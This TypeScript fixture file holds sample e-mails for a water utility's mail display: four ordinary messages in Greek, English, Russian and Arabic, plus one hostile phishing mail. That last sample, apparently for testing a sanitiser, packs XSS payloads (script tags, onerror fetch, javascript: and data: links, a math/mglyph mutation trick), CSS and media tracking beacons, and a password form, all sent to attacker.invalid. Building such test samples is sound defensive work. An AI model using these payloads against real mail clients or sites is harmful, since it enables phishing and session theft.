/**
 * E-mails of the demonstration that show what one can hold: four languages, a picture within the text, one from elsewhere,
 * a file, and one that somebody has made to do harm.
 */

export interface SampleEmail {
  daysAgo: number
  /** Absent: the utility. */
  sender?: string
  subject: string
  html: string
  text: string
  /** With a content id: a picture within the text. */
  files: readonly { file: 'logo' | 'guide'; name: string; contentId: string }[]
}

/** As mail programs of companies write it: a table, styles at the elements, colours of its own. */
const letter = (direction: 'ltr' | 'rtl', language: string, content: string): string =>
  `<!doctype html><html lang="${language}" dir="${direction}"><head><meta charset="utf-8"><style>
a { color: #0b5c6b } h1 { font-size: 22px; margin: 0 0 12px } @media (max-width: 500px) { .side { padding: 16px !important } }
</style></head><body style="margin:0;background:#eef4f4">
<table role="presentation" width="100%" cellpadding="0" cellspacing="0" style="background:#eef4f4"><tr><td align="center">
<table role="presentation" width="560" cellpadding="0" cellspacing="0" style="max-width:100%;background:#ffffff;color:#12303a;font-family:Arial,sans-serif">
<tr><td class="side" style="padding:24px;border-bottom:3px solid #0b5c6b"><img src="cid:logo" width="48" height="48" alt="Demetra Water &amp; Power"></td></tr>
<tr><td class="side" style="padding:24px;line-height:1.6">${content}</td></tr>
</table></td></tr></table></body></html>`

const logo = { file: 'logo', name: 'logo.png', contentId: 'logo' } as const

export const sampleEmails: readonly SampleEmail[] = [
  {
    daysAgo: 3,
    subject: 'Διακοπή νερού την Πέμπτη, 09:00 έως 12:00',
    html: letter(
      'ltr',
      'el',
      `<h1>Διακοπή νερού την Πέμπτη</h1><p>Αγαπητοί πελάτες,</p><p>την Πέμπτη από τις <b>09:00 έως τις 12:00</b> αλλάζουμε έναν αγωγό στη γειτονιά σας. Στο διάστημα αυτό δεν θα έχετε νερό.</p><ul><li>Κρατήστε λίγο νερό για τις ανάγκες σας.</li><li>Κλείστε τις βρύσες και τον θερμοσίφωνα.</li></ul><p><a href="https://www.demetra.example/el/works">Πού γίνονται έργα</a></p>`,
    ),
    text: 'Αγαπητοί πελάτες,\n\nτην Πέμπτη από τις 09:00 έως τις 12:00 αλλάζουμε έναν αγωγό στη γειτονιά σας. Στο διάστημα αυτό δεν θα έχετε νερό.\n\n- Κρατήστε λίγο νερό για τις ανάγκες σας.\n- Κλείστε τις βρύσες και τον θερμοσίφωνα.\n\nΠού γίνονται έργα: https://www.demetra.example/el/works',
    files: [logo],
  },
  {
    daysAgo: 12,
    subject: 'How to save water this summer',
    html: letter(
      'ltr',
      'en',
      `<h1>Five minutes that save a bath</h1><p>A shower of five minutes needs 45 litres, a bath 150. This is what our customers used last summer:</p><p><img src="https://pictures.demetra.example/summer-consumption.png" width="480" height="240" alt="Consumption in June, July and August"></p><p><a href="https://www.demetra.example/saving">More ideas</a>, or write to <a href="mailto:service@demetra.example">service@demetra.example</a>.</p>`,
    ),
    text: 'A shower of five minutes needs 45 litres, a bath 150.\n\nMore ideas: https://www.demetra.example/saving',
    files: [logo],
  },
  {
    daysAgo: 25,
    subject: 'Руководство по порталу',
    html: '<p>Здравствуйте!</p><p>Вы просили прислать руководство по порталу на русском языке. Оно в приложении к этому письму.</p><p>Demetra Water &amp; Power</p>',
    text: 'Здравствуйте!\n\nВы просили прислать руководство по порталу на русском языке. Оно в приложении к этому письму.\n\nDemetra Water & Power',
    files: [{ file: 'guide', name: 'Руководство по порталу.pdf', contentId: '' }],
  },
  {
    daysAgo: 40,
    subject: 'نصائح لقراءة العداد',
    html: letter(
      'rtl',
      'ar',
      '<h1>كيف تقرؤون عدادكم</h1><p>مرحبًا،</p><p>اقرؤوا الأرقام السوداء فقط، من اليسار إلى اليمين. الأرقام الحمراء هي اللترات، ولا نحتاج إليها.</p><p>يمكنكم إرسال القراءة في البوابة في أي وقت.</p>',
    ),
    text: 'مرحبًا،\n\nاقرؤوا الأرقام السوداء فقط، من اليسار إلى اليمين. الأرقام الحمراء هي اللترات، ولا نحتاج إليها.\n\nيمكنكم إرسال القراءة في البوابة في أي وقت.',
    files: [logo],
  },
]

/** Everything that HTML can try, all of it at an address that nobody has: a page that shows it must ask for none. */
export const hostileEmail: SampleEmail = {
  daysAgo: 60,
  sender: 'Demetra Water & Power <no-reply@attacker.invalid>',
  subject: 'Your account will be closed <b>today</b>',
  html: `<!doctype html><html><head>
<meta http-equiv="refresh" content="0;url=https://attacker.invalid/refresh">
<base href="https://attacker.invalid/base/">
<link rel="stylesheet" href="https://attacker.invalid/style.css">
<script src="https://attacker.invalid/script.js"></script>
<style>@import "https://attacker.invalid/import.css"; @font-face { font-family: f; src: url(https://attacker.invalid/font.woff2) }
p { background: url("https://attacker.invalid/style-picture.png"); font-family: f }
.escaped { background: \\75rl(https://attacker.invalid/escaped.png) } .set { background: var(--none, url(https://attacker.invalid/fallback.png)) } .set { background-image: image-set("https://attacker.invalid/set.png" 1x) }</style>
<script>parent.document.title = 'attacked'; top.location = 'https://attacker.invalid/top'</script>
</head><body background="https://attacker.invalid/body.png" onload="parent.document.title='attacked'">
<p class="escaped set" style="background-image:url(https://attacker.invalid/inline.png)">Dear customer, please confirm your password.</p>
<img src="https://attacker.invalid/seen.png" srcset="https://attacker.invalid/seen-2x.png 2x" alt="" onerror="parent.document.title='attacked'">
<img src="x" onerror="fetch('https://attacker.invalid/onerror')" alt="">
<picture><source srcset="https://attacker.invalid/source.png"><img src="cid:nothing" alt=""></picture>
<video autoplay poster="https://attacker.invalid/poster.png" src="https://attacker.invalid/film.mp4"></video>
<audio autoplay src="https://attacker.invalid/sound.mp3"></audio>
<svg width="10" height="10"><script>parent.document.title='attacked'</script><image href="https://attacker.invalid/svg.png"/><a href="javascript:alert(1)"><text>x</text></a><use href="https://attacker.invalid/use.svg#a"/></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></mglyph></table></mtext></math>
<form action="https://attacker.invalid/form" method="post"><label>Password <input name="password" type="password"></label><button>Confirm</button></form>
<iframe src="https://attacker.invalid/frame"></iframe><object data="https://attacker.invalid/object"></object><embed src="https://attacker.invalid/embed">
<a href="https://attacker.invalid/login" target="_top">www.demetra.example/login</a>
<a href="javascript:alert(document.domain)">Click here</a>
<a href="data:text/html,<script>alert(1)</script>">Or here</a>
<div style="position:fixed;inset:0;background:#fff;z-index:9999">Your session has ended. <a href="//attacker.invalid/again" ping="https://attacker.invalid/ping">Sign in again</a> <a href="mailto:100%@attacker.invalid">Help</a></div>
</body></html>`,
  text: 'Dear customer, please confirm your password.',
  files: [],
}
